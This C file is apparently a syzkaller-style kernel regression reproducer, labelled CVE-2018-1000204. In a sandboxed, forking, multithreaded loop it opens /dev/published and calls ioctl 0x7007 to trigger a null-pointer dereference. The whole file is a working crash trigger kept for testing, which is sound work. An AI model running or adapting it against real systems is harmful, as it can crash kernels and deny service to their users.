/* SPDX-License-Identifier: BSD-2-Clause */
/* tests/kernel-repros/ask.c - CVE-2018-1000204, expected: KASAN: null-ptr-deref in published_ask
 * In the shape of syzkaller's programs: a folder of its own, a sandbox with namespaces as far as the kernel has them, a
 * thread for each call, calls in a child process, again and again. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/futex.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

typedef struct {
	int state;
} event_t;
struct thread_t {
	int created, call;
	event_t ready, done;
};
static struct thread_t threads[4];
static int running;
static uint64_t r[1] = { 0xffffffffffffffff };

static void event_set(event_t *e)
{
	__atomic_store_n(&e->state, 1, __ATOMIC_RELEASE);
	syscall(SYS_futex, &e->state, FUTEX_WAKE | FUTEX_PRIVATE_FLAG, 1000000);
}

static void event_wait(event_t *e)
{
	while (!__atomic_load_n(&e->state, __ATOMIC_ACQUIRE))
		syscall(SYS_futex, &e->state, FUTEX_WAIT | FUTEX_PRIVATE_FLAG, 0, 0);
}

static void execute_call(int call)
{
	switch (call) {
	case 0:
		memcpy((void *)0x20000000, "/dev/published\000", 15);
		r[0] = (uint64_t)syscall(__NR_openat, 0xffffffffffffff9cul, 0x20000000ul, 2ul, 0ul);
		break;
	case 1:
		syscall(__NR_ioctl, r[0], 0x7007, 0);
		break;
	}
}

static void *thr(void *arg)
{
	struct thread_t *th = arg;

	for (;;) {
		event_wait(&th->ready);
		__atomic_store_n(&th->ready.state, 0, __ATOMIC_RELEASE);
		execute_call(th->call);
		__atomic_fetch_sub(&running, 1, __ATOMIC_RELAXED);
		event_set(&th->done);
	}
	return NULL;
}

static void execute_one(void)
{
	for (int call = 0; call < 2; call++) {
		struct thread_t *th = &threads[call];

		if (!th->created) {
			pthread_t handle;
			pthread_attr_t attr;

			th->created = 1;
			event_set(&th->done);
			pthread_attr_init(&attr);
			pthread_attr_setstacksize(&attr, 128 << 10);
			if (pthread_create(&handle, &attr, thr, th) != 0)
				exit(1);
		}
		th->done.state = 0;
		th->call = call;
		__atomic_fetch_add(&running, 1, __ATOMIC_RELAXED);
		event_set(&th->ready);
		usleep(50000);
	}
}

static void loop(void)
{
	for (int iter = 0;; iter++) {
		char cwd[32];
		int status = 0;
		pid_t pid;

		snprintf(cwd, sizeof(cwd), "./%d", iter);
		mkdir(cwd, 0777);
		pid = fork();
		if (pid == 0) {
			prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
			setpgrp();
			if (chdir(cwd))
				exit(1);
			execute_one();
			exit(0);
		}
		while (waitpid(-1, &status, __WALL) != pid)
			;
	}
}

static int namespace_sandbox_proc(void *unused)
{
	(void)unused;
	unshare(CLONE_NEWNS);
	unshare(CLONE_NEWIPC);
	unshare(CLONE_NEWUTS);
	unshare(CLONE_NEWNET);
	setsid();
	loop();
	return 0;
}

int main(void)
{
	static char stack[65536];
	char tmpdir_template[] = "./syzkaller.XXXXXX";
	struct rlimit rlim = { 200 << 20, 200 << 20 };
	pid_t pid;

	syscall(__NR_mmap, 0x20000000ul, 0x1000000ul, 7ul, 0x32ul, -1, 0ul);
	if (!mkdtemp(tmpdir_template) || chmod(tmpdir_template, 0777) || chdir(tmpdir_template))
		exit(1);
	setrlimit(RLIMIT_AS, &rlim);
	pid = clone(namespace_sandbox_proc, stack + sizeof(stack), CLONE_NEWUSER | CLONE_NEWPID | SIGCHLD, NULL);
	if (pid < 0) /* the kernel has no such namespaces */
		loop();
	while (waitpid(-1, NULL, __WALL) != pid)
		;
	return 0;
}
